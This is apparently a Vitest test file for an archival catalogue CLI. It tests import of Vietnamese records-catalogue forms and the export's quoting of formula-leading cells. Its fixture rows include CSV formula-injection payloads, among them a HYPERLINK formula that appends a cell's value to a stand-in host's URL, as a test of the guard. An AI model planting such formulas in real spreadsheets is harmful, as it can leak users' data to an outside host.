// The two standard mục lục hồ sơ forms (fixtures/catalog/forms.mjs) through the built CLI, the
// box of each file in its holding, and the export's formula quote on a round trip. SQLite.
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { openContext } from '../app/context.js';
import { initHome } from '../cli/commands/init.js';
import { tempDir } from '../testing/homes.js';
import { FIXTURES, duphong } from '../testing/catalog-cli.js';
import { ExcelJS } from '../adapters/exceljs.js';
// @ts-expect-error -- a plain .mjs module of the fixtures, shared with make.mjs
import * as forms from '../../../../fixtures/catalog/forms.mjs';

type FormFile = { box: string; ordinal: number; notation: string; code: string; title: string } & Record<string, string | number>;
const formFile = forms.formFile as (fonds: unknown, i: number) => FormFile;

const tmp = tempDir('catalog-forms-');
afterAll(() => tmp.remove());
let n = 0;
let home: string;
beforeEach(async () => {
  home = join(tmp.path, `home${++n}`);
  await initHome(home, false);
});

async function catalogue<T>(fn: (c: Awaited<ReturnType<typeof openContext>>['catalogue']) => Promise<T>): Promise<T> {
  const ctx = await openContext(home);
  try {
    return await fn(ctx.catalogue);
  } finally {
    await ctx.close();
  }
}

const codes = (json: { findings: Array<{ code: string }> }) => [...new Set(json.findings.map((f) => f.code))].sort();

describe('the standard forms of the mục lục hồ sơ', () => {
  for (const [form, fonds] of [
    ['cu', forms.OLD_FONDS],
    ['moi', forms.NEW_FONDS],
  ] as const) {
    for (const ext of ['xlsx', 'csv']) {
      it(`${form === 'cu' ? 'old' : 'new'} form (${ext}) imports with no --map: fields, legacy numbers and the holding's box`, async () => {
        const r = duphong(home, 'catalog', 'import', join(FIXTURES, `muc-luc-mau-${form}.${ext}`));
        expect(r.code).toBe(0);
        expect(r.json).toMatchObject({ files: forms.FORM_ROWS, errors: 0, written: true, fondsCodes: [fonds.code] });
        expect(r.json.holdingCounts).toEqual({ created: forms.FORM_ROWS, updated: 0, unchanged: 0 });
        // no duplicate column and no unknown one: only the TT05 columns these forms never had, and the derived codes
        expect(codes(r.json)).toEqual(['DP-IMPORT-CODE-DERIVED', 'DP-IMPORT-COLUMN-MISSING']);
        await catalogue(async (c) => {
          expect((await c.records.getFonds(fonds.code))!.legacy).toEqual({ 'Mục lục số': fonds.catalogue });
          const holdings = new Map((await c.records.listHoldings(fonds.code)).map((h) => [h.fileCode, h]));
          for (let i = 0; i < forms.FORM_ROWS; i++) {
            const want = formFile(fonds, i);
            const got = await c.records.getFile(want.code);
            expect(got, want.code).toMatchObject({
              fondsCode: fonds.code,
              title: want.title,
              fields: {
                startDate: want.startDate,
                endDate: want.endDate,
                numberOfPaper: String(want.sheets),
                maintenance: want.maintenanceCode,
              },
            });
            expect(got!.fields.description ?? '').toBe(want.note);
            expect(got!.legacy['Hồ sơ số']).toBe(String(want.ordinal));
            if (form === 'moi') expect(got!.legacy['Số và ký hiệu hồ sơ']).toBe(want.notation);
            expect(Object.keys(got!.legacy).some((k) => /h[oộ]p|c[aặ]p/i.test(k))).toBe(false);
            expect(holdings.get(want.code)).toMatchObject({ id: `file:${want.code}`, box: want.box, medium: 'paper' });
          }
        });
        const again = duphong(home, 'catalog', 'import', join(FIXTURES, `muc-luc-mau-${form}.${ext}`));
        expect(again.json.counts).toEqual({ created: 0, updated: 0, unchanged: forms.FORM_ROWS });
        expect(again.json.holdingCounts).toEqual({ created: 0, updated: 0, unchanged: forms.FORM_ROWS });
      });
    }
  }

  it('a changed or emptied box cell updates the holding; store and shelf set elsewhere are kept', async () => {
    const csv = join(tmp.path, `box-${n}.csv`);
    const sheet = (box1: string, box2: string) =>
      `Mã phông: H15.07\nHộp số,Hồ sơ số,Tiêu đề hồ sơ,Thời gian\n${box1},1,Hồ sơ một,2001\n${box2},2,Hồ sơ hai,2001\n`;
    writeFileSync(csv, sheet('5', '6'));
    expect(duphong(home, 'catalog', 'import', csv).json.holdingCounts).toEqual({ created: 2, updated: 0, unchanged: 0 });
    await catalogue(async (c) => {
      const h = (await c.records.getHolding('file:H15.07.2001.1'))!;
      await c.records.putHolding({ ...h, store: 'Kho 2', shelf: 'Giá 14' });
    });
    writeFileSync(csv, sheet('7', ''));
    expect(duphong(home, 'catalog', 'import', csv).json.holdingCounts).toEqual({ created: 0, updated: 2, unchanged: 0 });
    await catalogue(async (c) => {
      expect(await c.records.getHolding('file:H15.07.2001.1')).toMatchObject({ box: '7', store: 'Kho 2', shelf: 'Giá 14' });
      expect(await c.records.getHolding('file:H15.07.2001.2')).toMatchObject({ box: null });
    });
  });

  it('the human summary of a refused sheet counts what would have been written', () => {
    const csv = join(tmp.path, `refused-${n}.csv`);
    writeFileSync(csv, 'Mã phông: H15.07\nHồ sơ số,Tiêu đề hồ sơ,Thời gian\n1,Hồ sơ một,2001\n2,Hồ sơ hai,2001\n3,,2001\n');
    const bin = resolve(import.meta.dirname, '../../bin/duphong.js');
    const r = spawnSync(process.execPath, [bin, 'catalog', 'import', csv, '--home', home], { encoding: 'utf8' });
    expect(r.status).toBe(3);
    const out = r.stdout + r.stderr;
    expect(out).toContain('KHÔNG nhập gì');
    expect(out).toContain('sẽ tạo 2');
    expect(out).not.toMatch(/mới \d/);
  });
});

describe('export: formula prefixes quoted, box from the holdings, round trip exact', () => {
  it('quotes = + - @ in CSV and XLSX cells (tab and CR: formula-guard.test.ts); import removes just that quote; nothing changes', async () => {
    const csv = join(tmp.path, `risky-${n}.csv`);
    const rows = [
      ['Hộp số', 'Mã hồ sơ', 'Tiêu đề hồ sơ', 'Thời gian', 'Ghi chú', 'Người lập'],
      ['=1+1', 'H15.07.2001.1', '=HYPERLINK("http://x.example/?"&A1,"bấm")', '2001', '+84 912 345 678', '@SUM(A1)'],
      // a quote before a formula character is the export's: the import removes one
      ['3', 'H15.07.2001.2', "''=đã có dấu nháy", '2001', '-10 tờ', "'ghi chú có nháy"],
    ];
    writeFileSync(csv, `Mã phông: H15.07\n${rows.map((r) => r.map((v) => `"${v.replace(/"/g, '""')}"`).join(',')).join('\n')}\n`);
    const first = duphong(home, 'catalog', 'import', csv);
    expect(first.code).toBe(0);
    const before = await catalogue(async (c) => [await c.records.getFile('H15.07.2001.1'), await c.records.getFile('H15.07.2001.2')]);
    expect(before[0]).toMatchObject({ title: '=HYPERLINK("http://x.example/?"&A1,"bấm")', fields: { description: '+84 912 345 678' } });
    expect(before[1]).toMatchObject({ title: "'=đã có dấu nháy", legacy: { 'Người lập': "'ghi chú có nháy" } });

    const outCsv = join(tmp.path, `out-${n}.csv`);
    const outXlsx = join(tmp.path, `out-${n}.xlsx`);
    expect(duphong(home, 'catalog', 'export', '--fonds', 'H15.07', '--out', outCsv).code).toBe(0);
    expect(duphong(home, 'catalog', 'export', '--fonds', 'H15.07', '--out', outXlsx).code).toBe(0);
    const text = readFileSync(outCsv, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""bấm"")"`);
    expect(text).toContain("'+84 912 345 678");
    expect(text).toContain("'@SUM(A1)");
    expect(text).toContain("'-10 tờ");
    expect(text).toContain("''=đã có dấu nháy");
    expect(text).toContain(",'ghi chú có nháy"); // a quote not before a formula character: written as it is
    // no cell of the export begins with a formula character
    for (const line of text.split('\r\n')) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(outXlsx);
    const values: string[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(String(cell.value))));
    expect(values).toContain("'=1+1"); // the box column, from the holding
    expect(values.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);

    for (const out of [outCsv, outXlsx]) {
      const back = duphong(home, 'catalog', 'import', out);
      expect(back.code).toBe(0);
      expect(back.json.counts).toEqual({ created: 0, updated: 0, unchanged: 2 });
      expect(back.json.holdingCounts).toEqual({ created: 0, updated: 0, unchanged: 2 });
    }
    const after = await catalogue(async (c) => [await c.records.getFile('H15.07.2001.1'), await c.records.getFile('H15.07.2001.2')]);
    expect(after).toEqual(before);
  });
});
